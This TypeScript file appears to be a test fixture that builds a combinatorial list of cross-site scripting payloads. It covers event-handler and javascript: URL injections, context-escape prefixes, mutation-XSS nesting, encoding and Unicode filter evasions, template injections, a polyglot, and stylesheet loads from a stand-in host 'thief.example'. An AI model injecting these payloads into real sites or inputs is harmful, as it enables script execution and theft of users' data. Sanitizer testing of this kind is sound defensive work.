// Markup that runs a script if it is parsed as markup: each way to run one, from each place it could break out of.

const RUNS = 'alert(1)';

// The ways in which markup starts a script.
const WAYS = [
  `<script>${RUNS}</script>`,
  `<img src=x onerror=${RUNS}>`,
  `<svg onload=${RUNS}>`,
  `<svg><animate onbegin=${RUNS} attributeName=x dur=1s>`,
  `<details open ontoggle=${RUNS}>`,
  `<input autofocus onfocus=${RUNS}>`,
  `<iframe srcdoc="<script>parent.${RUNS}</script>">`,
  `<iframe src="javascript:parent.${RUNS}">`,
  `<a href="javascript:${RUNS}" autofocus>x</a>`,
  `<form action="javascript:${RUNS}"><button autofocus>x</button></form>`,
  `<video><source onerror=${RUNS}></video>`,
  `<body onpageshow=${RUNS}>`,
  `<object data="data:text/html,<script>${RUNS}</script>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUNS}">`,
  `<base href="https://thief.example/">`,
  `<link rel="stylesheet" href="https://thief.example/x.css">`,
  `<style>@import "https://thief.example/x.css";*{background:url(https://thief.example/)}</style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUNS}></style></mglyph></table></mtext></math>`,
  `<svg><style><img src=x onerror=${RUNS}></style></svg>`,
  `<template shadowrootmode=open><img src=x onerror=${RUNS}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUNS}>">`,
  `<x style="animation:pulse 1s" onanimationstart=${RUNS}>`,
] as const;

// Prefixes that end the context of a text: an attribute, an element that holds text, a comment, data.
const EXITS = ['', '">', "'>", '</script>', '</title></textarea>', '--!>', '</style>', '"}}</script>'] as const;

// Payloads outside this table.
const OTHERS = [
  `" onmouseover=${RUNS} autofocus onfocus=${RUNS} x="`,
  `' onmouseover=${RUNS} autofocus onfocus=${RUNS} x='`,
  `javascript:${RUNS}`,
  `java\tscript:${RUNS}`,
  `JaVaScRiPt:${RUNS}//`,
  `data:text/html,<script>${RUNS}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUNS}'/>`,
  `vbscript:msgbox(1)`,
  `\${${RUNS}}`,
  `{{constructor.constructor('${RUNS}')()}}`,
  `#{${RUNS}}`,
  `<%= ${RUNS} %>`,
  `&lt;script&gt;${RUNS}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUNS}&#62;`,
  `\\u003cimg src=x onerror=${RUNS}\\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUNS}%3E`,
  `<ſcript>${RUNS}</ſcript>`,
  `＜img src=x onerror=${RUNS}＞`,
  `<img\u200b src=x onerror=${RUNS}>`,
  `<im\u00adg src=x onerror=${RUNS}>`,
  `\u202e>)1(trela=rorreno x=crs gmi<`,
  `<!--<script>${RUNS}//-->`,
  `<![CDATA[<script>${RUNS}</script>]]>`,
  `\u2028${RUNS}\u2029`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUNS} )//</stYle/</titLe/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUNS}//>`,
  `"><svg/onload=${RUNS}//`,
  `<img src="x\`\`><img src=x onerror=${RUNS}>`,
] as const;

export const PAYLOADS: readonly string[] = [...EXITS.flatMap((exit) => WAYS.map((way) => exit + way)), ...OTHERS];
